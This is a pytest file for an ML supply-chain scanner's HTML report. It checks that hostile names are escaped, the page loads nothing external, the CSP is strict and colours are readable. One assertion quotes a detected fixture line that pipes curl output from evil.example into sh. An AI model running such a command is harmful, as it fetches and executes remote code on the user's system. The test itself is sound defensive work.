"""report.html: one page that loads nothing, runs its own script only and shows every name as text."""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import re

import pytest

from mlgate.records import Component, Inventory, Kind, Location, Occurrence, PackageFacts
from mlgate.reports import html
from mlgate.reports.context import ReportContext
from tests.builders import verdicts, verdicts_hostile
from tests.reports.pages import INVISIBLE, RUNNER, Page, read

TAGS = {
    *("html", "head", "meta", "title", "style", "script", "body", "header", "nav", "main", "section", "article"),
    *("footer", "details", "summary"),
    *("h1", "h2", "h3", "p", "div", "span", "strong", "bdi", "code", "pre", "a", "ul", "li", "dl", "dt", "dd"),
    *("table", "thead", "tbody", "tr", "th", "td"),
    *("label", "input", "select", "option", "fieldset", "legend", "button"),
    *("svg", "defs", "marker", "path", "g", "rect", "text", "title"),
}
# An attribute that is not here could be a handler, a style or a source.
ATTRIBUTES = {
    *("lang", "charset", "http-equiv", "content", "name", "class", "open", "scope", "href", "rel", "id", "role"),
    *("aria-label", "viewbox", "width", "height", "x", "y", "rx", "d", "refx", "refy", "markerwidth", "markerheight"),
    *("orient", "marker-end", "text-anchor", "tabindex", "hidden"),
    *("type", "value", "checked", "autocomplete", "spellcheck"),
    *("data-severity", "data-action", "data-rule", "data-column"),
}


def _safe(text: str) -> Page:
    page = read(text)
    assert set(page.tags) <= TAGS, set(page.tags) - TAGS
    assert {name for name, _ in page.attributes} <= ATTRIBUTES
    assert page.tags.count("script") == page.tags.count("style") == 1
    anchors = {f"#{value}" for name, value in page.attributes if name == "id"}
    away = [link for link in page.links if link not in anchors]
    assert all(link.startswith("https://github.com/acme/vision/") for link in away), away
    assert not page.comments
    assert not INVISIBLE.search(text)
    assert not RUNNER.search(text)
    return page


def _inside(text: str, tag: str) -> str:
    found = re.search(rf"<{tag}>(.*?)</{tag}>", text, re.DOTALL)
    assert found is not None
    return found[1]


@pytest.mark.parametrize("name", verdicts_hostile.NAMES)
def test_hostile_names_are_text(name: str) -> None:
    text = html.render(verdicts_hostile.hostile_inventory(name), verdicts_hostile.hostile(name), verdicts.CONTEXT)
    _safe(text)
    plain = html.render(verdicts.inventory(), verdicts.three(), verdicts.CONTEXT)
    assert _inside(text, "script") == _inside(plain, "script")


@pytest.mark.parametrize("name", verdicts_hostile.NAMES)
def test_a_hostile_context_makes_no_link(name: str) -> None:
    context = ReportContext(
        tool_version=name, repository=name, server_url=name, head_sha=name, run_url=name, bom_summary=name, path=name
    )
    page = _safe(html.render(verdicts.inventory(), verdicts.three(), context))
    assert all(link.startswith("#") for link in page.links)


def test_the_policy_allows_our_style_and_script_and_nothing_else() -> None:
    text = html.render(verdicts.inventory(), verdicts.three(), verdicts.CONTEXT)

    def digest(tag: str) -> str:
        return base64.b64encode(hashlib.sha256(_inside(text, tag).encode()).digest()).decode()

    policy = (
        f"default-src 'none'; style-src 'sha256-{digest('style')}'; script-src 'sha256-{digest('script')}'; "
        "require-trusted-types-for 'script'; trusted-types 'none'; base-uri 'none'; form-action 'none'"
    )
    assert ("content", policy) in read(text).attributes
    assert text.index("Content-Security-Policy") < text.index("<style>")
    assert not re.search(r"url\((?!#tip)|@import", text)
    assert not re.search(
        r"innerHTML|insertAdjacent|document\.write|eval|fetch|XMLHttp|import\(", _inside(text, "script")
    )


def test_three_findings() -> None:
    page = _safe(html.render(verdicts.inventory(), verdicts.three(), verdicts.CONTEXT))
    text = "".join(page.text)
    assert "Fail" in text
    assert "Blocked: 2 findings to fix before merge, 1 warning" in text
    assert "os.system('curl -s https://evil.example/x | sh')" in text
    assert "torch==2.6.0" in text
    assert page.tags.count("rect") == 5
    assert "does not mean safe" in text
    parts = text[text.index("Inventory") :]
    assert parts.index("Models (3)") < parts.index("Datasets (1)") < parts.index("Packages (2)")


def test_without_the_script_nothing_is_hidden_but_the_filters() -> None:
    text = html.render(verdicts.inventory(), verdicts.three(), verdicts.CONTEXT)
    hidden = re.findall(r"<(\w+)(?=[^>]*\shidden[\s>])[^>]*>", text)
    assert hidden == ["div", "button", "div"]


def test_the_filters_count_what_is_on_the_page() -> None:
    text = html.render(verdicts.inventory(), verdicts.three(), verdicts.CONTEXT)
    for said in ("critical (1)", "Blocks the merge (2)", "MLG-DEP-001 Package with a known vulnerability (1)"):
        assert said in text
    assert text.count("<article") == text.count('data-rule="') == 3


def test_the_inventory_says_revision_licence_hash_place_and_vulnerabilities() -> None:
    base = verdicts.inventory()
    torch = Component(
        kind=Kind.PACKAGE,
        identity="pkg:pypi/torch",
        name="torch",
        version="2.0.0",
        purl="pkg:pypi/torch@2.0.0",
        pinned=True,
        package=PackageFacts(ecosystem="PyPI", requirement="torch==2.0.0"),
        occurrences=tuple(Occurrence(location=Location(path="requirements.txt", line=n)) for n in range(1, 40)),
    )
    loose = dataclasses.replace(
        torch,
        identity="pkg:pypi/aaa",
        name="aaa",
        version=None,
        purl=None,
        pinned=None,
        package=PackageFacts(ecosystem="PyPI", requirement="aaa>=1", specifier=">=1"),
    )
    made = dataclasses.replace(base, components=(*base.components, torch, loose))
    page = _safe(html.render(made, verdicts.three(), verdicts.CONTEXT))
    text = "".join(page.text)
    assert f"SHA-256 {'ab' * 32}" in text  # the whole digest, folded
    assert "3f49326eb077187dfe1c2a2bb15fbd74e6ab91e3" in text
    assert "Apache-2.0" in text
    assert "not fixed: >=1" in text
    assert "18 more in bom.cdx.json" in text
    packages = text[text.rindex("Packages (4)") :]
    assert packages.index("torch") < packages.index("aaa"), "what an advisory names comes first"
    assert packages.index("GHSA-53q9-r3pm-6pq6") < packages.index("none known")


def test_many_packages_are_cut_and_counted() -> None:
    every = tuple(Component(kind=Kind.PACKAGE, identity=f"pkg:pypi/p{n}", name=f"p{n}") for n in range(html.ROWS + 5))
    text = html.render(Inventory(root="", components=every), verdicts.clean(), verdicts.CONTEXT)
    assert "5 more are in bom.cdx.json." in text


def test_a_flood_says_what_is_left_out_and_stays_small() -> None:
    text = html.render(verdicts.inventory(), verdicts.many(html.FINDINGS + 10), verdicts.CONTEXT)
    assert text.count("<article") == html.FINDINGS
    assert "10 more: MLG-COD-004" in text
    assert len(text.encode()) < 3_000_000


def test_waived_and_unread_are_shown() -> None:
    text = "".join(_safe(html.render(verdicts.incomplete_inventory(), verdicts.waived(), verdicts.CONTEXT)).text)
    assert "Waived (1)" in text
    assert "converted in Q1" in text
    assert "Not looked into completely (1)" in text
    assert "models/prod.zip" in text


def test_what_changed_since_the_base_is_listed() -> None:
    given = dataclasses.replace(verdicts.three(), changes=tuple(verdicts_hostile.changes("x")))
    text = "".join(_safe(html.render(verdicts.inventory(), given, verdicts.CONTEXT)).text)
    assert "Models and datasets changed since the base" in text
    assert "added x hf:x" in text


def _luminance(color: str) -> float:
    """WCAG 2.2, "relative luminance"."""
    whole = "".join(char * 2 for char in color) if len(color) == 3 else color
    parts = [int(whole[at : at + 2], 16) / 255 for at in (0, 2, 4)]
    r, g, b = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
    return 0.2126 * r + 0.7152 * g + 0.0722 * b


def test_every_colour_of_text_can_be_read_on_every_ground() -> None:
    style = _inside(html.render(verdicts.inventory(), verdicts.three(), verdicts.CONTEXT), "style")
    palettes = [dict(re.findall(r"--(\w+):#([0-9a-f]{3,6})", block)) for block in re.findall(r":root\{[^}]*\}", style)]
    assert len(palettes) == 3  # light, dark, print
    for colors in palettes:
        for name in set(colors) - {"bg", "card", "line"}:
            for ground in ("bg", "card"):
                light, dark = sorted((_luminance(colors[name]), _luminance(colors[ground])), reverse=True)
                assert (light + 0.05) / (dark + 0.05) >= 4.5, (name, colors[name], ground)
